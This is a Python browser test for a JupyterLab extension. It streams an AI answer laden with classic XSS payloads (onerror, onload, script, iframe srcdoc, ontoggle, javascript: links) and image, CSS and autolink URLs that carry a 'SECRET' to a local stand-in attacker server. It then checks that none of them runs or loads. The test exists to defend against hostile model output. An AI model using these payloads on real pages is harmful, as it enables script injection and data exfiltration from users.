"""Issue 26, break 1, in a real JupyterLab: a hostile answer runs nothing and loads nothing.

Output from a live kernel is trusted, so JupyterLab renders its HTML and markdown with
raw HTML live and runs the scripts in it. The local Messages API server streams an
answer full of classic XSS vectors, slowly enough that JupyterLab draws the
intermediate states, then the turn ends and the saved record is drawn by the lab
extension. Every vector, if it ran, would mark the page (``document.body.dataset``);
every image points at a small HTTP server of the test, which counts what reaches it.
Neither may happen, and the images are there as words instead.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from lab_helpers import new_notebook, output, run_cell

from jupyter_memory.localapi import FakeAnthropic, Turn

pytestmark = pytest.mark.browser

MARK = "document.body.dataset.pwned='1'"


class Watch:
    """An HTTP server standing for the attacker's host: it records every request."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self.done = threading.Event()
        watch = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                watch.paths.append(self.path)
                if self.path == "/done":
                    watch.done.set()
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def watch() -> Iterator[Watch]:
    server = Watch()
    try:
        yield server
    finally:
        server.close()


def hostile_answer(url: str) -> str:
    return "\n\n".join([
        "Revenue **grew** in May.",
        f'<img src=x onerror="{MARK}">',
        f'<IMG SRC=x OnErRoR="{MARK}">',
        f'<svg onload="{MARK}"></svg>',
        f"<script>{MARK}</script>",
        f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
        f'<details open ontoggle="{MARK}">x</details>',
        f'<img src="{url}/raw-img?q=SECRET">',
        f"![chart]({url}/md-img?q=SECRET)",
        f"<{url}/autolink?q=SECRET>",
        f'<div style="background:url({url}/css?q=SECRET)">styled</div>',
        f'<link rel=stylesheet href="{url}/sheet.css">',
        f"[click me](javascript:{MARK})",
        "The end of the answer.",
    ])


@pytest.fixture(scope="module")
def fake_model(watch: Watch) -> Iterator[FakeAnthropic]:
    answer = hostile_answer(watch.url)
    # Small chunks with a pause between them: JupyterLab draws each state of the stream.
    chunks = [answer[i:i + 40] for i in range(0, len(answer), 40)]
    with FakeAnthropic() as server:
        server.push(Turn(text=chunks, delay=0.3))
        yield server


@pytest.fixture(scope="module")
def seed_lab(fake_model: FakeAnthropic) -> Callable[[Any], None]:
    def seed(lab: Any) -> None:
        lab.env.update(ANTHROPIC_BASE_URL=fake_model.base_url, ANTHROPIC_API_KEY="test-key")

    return seed


def test_a_hostile_answer_runs_nothing_and_loads_nothing(
    page: Any, lab: Any, fake_model: FakeAnthropic, watch: Watch
) -> None:
    new_notebook(page, lab)
    run_cell(page, 0, "%load_ext jupyter_memory")
    cell = run_cell(page, 1, "%%agent\nHow did revenue do?")
    turn = output(cell).locator(".jp-MemoryTurn")
    turn.get_by_text("The end of the answer.").wait_for(state="visible")
    assert fake_model.remaining == 0 and fake_model.failures == []
    # A request of our own after the views were drawn: whatever they started (an
    # image, a stylesheet) left before it.
    page.evaluate("url => fetch(url + '/done', {mode: 'no-cors'})", watch.url)
    assert watch.done.wait(30)

    assert page.evaluate("() => document.body.dataset.pwned") is None
    assert watch.paths == ["/done"]
    text = turn.inner_text()
    assert f"chart (image not loaded: {watch.url}/md-img?q=SECRET)" in text
    assert "click me (link removed)" in text
    assert turn.locator("strong", has_text="grew").count() == 1  # still markdown
    assert turn.locator("img, svg, iframe, script, link, style").count() == 0
